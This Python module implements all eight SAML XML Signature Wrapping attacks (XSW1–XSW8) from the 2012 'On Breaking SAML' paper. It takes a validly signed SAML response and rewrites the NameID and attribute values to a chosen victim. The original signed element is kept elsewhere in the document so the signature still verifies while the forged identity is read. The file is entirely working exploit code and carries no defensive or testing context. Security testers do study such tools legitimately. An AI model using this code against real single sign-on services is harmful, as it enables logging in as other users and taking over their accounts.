"""Signature wrapping: the signed part stays somewhere in the document, and a forged one stands where it is read.

The eight arrangements are those of Somorovsky and others, "On Breaking SAML: Be Whoever You Want to Be" (2012), in the
numbering of SAML Raider. The first two are about signed answers, the others about signed assertions.
"""

from collections.abc import Callable
from copy import deepcopy

from lxml import etree

SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
DS = "http://www.w3.org/2000/09/xmldsig#"
NAMES = {"samlp": SAMLP, "saml": SAML, "ds": DS}

Element = etree._Element
Wrapping = Callable[[Element, str], Element]


def wrapped(xml: str, wrapping: Wrapping, victim: str) -> bytes:
    """The document of somebody who may log in, arranged so that it seems to be about the victim."""
    return etree.tostring(wrapping(etree.fromstring(xml.encode()), victim))


def xsw1(response: Element, victim: str) -> Element:
    """The signed answer stands within the signature of a forged answer."""
    forged, signature = _forged_around(response, victim)
    signature.append(_without_signature(response))
    return forged


def xsw2(response: Element, victim: str) -> Element:
    """The signed answer stands before the signature of a forged answer."""
    forged, signature = _forged_around(response, victim)
    signature.addprevious(_without_signature(response))
    return forged


def xsw3(response: Element, victim: str) -> Element:
    """A forged assertion stands before the signed one."""
    signed = _assertion(response)
    signed.addprevious(_forged(signed, victim))
    return response


def xsw4(response: Element, victim: str) -> Element:
    """The signed assertion stands within a forged one."""
    signed = _assertion(response)
    forged = _forged(signed, victim)
    signed.addprevious(forged)
    forged.append(signed)
    return response


def xsw5(response: Element, victim: str) -> Element:
    """A forged assertion has the signature, and the signed one stands after it without."""
    signed = _assertion(response)
    forged, original = deepcopy(signed), _without_signature(signed)
    _rename(forged, victim)
    response.replace(signed, forged)
    response.append(original)
    return response


def xsw6(response: Element, victim: str) -> Element:
    """A forged assertion has the signature, within which the signed one stands."""
    signed = _assertion(response)
    forged, original = deepcopy(signed), _without_signature(signed)
    _rename(forged, victim)
    response.replace(signed, forged)
    _signature(forged).append(original)
    return response


def xsw7(response: Element, victim: str) -> Element:
    """A forged assertion with the id of the signed one stands among extensions before it."""
    signed = _assertion(response)
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    extensions.append(_forged(signed, victim, keeps_id=True))
    signed.addprevious(extensions)
    return response


def xsw8(response: Element, victim: str) -> Element:
    """A forged assertion has the signature, and the signed one stands in an object of it."""
    signed = _assertion(response)
    forged, original = deepcopy(signed), _without_signature(signed)
    _rename(forged, victim)
    response.replace(signed, forged)
    holder = etree.SubElement(_signature(forged), f"{{{DS}}}Object")
    holder.append(original)
    return response


WRAPPINGS: tuple[Wrapping, ...] = (xsw1, xsw2, xsw3, xsw4, xsw5, xsw6, xsw7, xsw8)


def _forged_around(response: Element, victim: str) -> tuple[Element, Element]:
    """A copy of the answer about the victim, with another id and the signature."""
    forged = deepcopy(response)
    forged.set("ID", "_forged")
    _rename(_assertion(forged), victim)
    return forged, _signature(forged)


def _forged(assertion: Element, victim: str, *, keeps_id: bool = False) -> Element:
    """A copy of the assertion about the victim, without signature."""
    forged = _without_signature(assertion)
    if not keeps_id:
        forged.set("ID", "_forged")
    _rename(forged, victim, keeps_id=True)
    return forged


def _rename(assertion: Element, victim: str, *, keeps_id: bool = False) -> None:
    if not keeps_id:
        assertion.set("ID", "_forged")
    for value in assertion.iterfind(".//saml:AttributeValue", NAMES):
        value.text = victim
    for subject in assertion.iterfind(".//saml:NameID", NAMES):
        subject.text = victim


def _assertion(response: Element) -> Element:
    found = response.find("saml:Assertion", NAMES)
    assert found is not None
    return found


def _signature(signed: Element) -> Element:
    found = signed.find("ds:Signature", NAMES)
    assert found is not None
    return found


def _without_signature(signed: Element) -> Element:
    copy = deepcopy(signed)
    copy.remove(_signature(copy))
    return copy
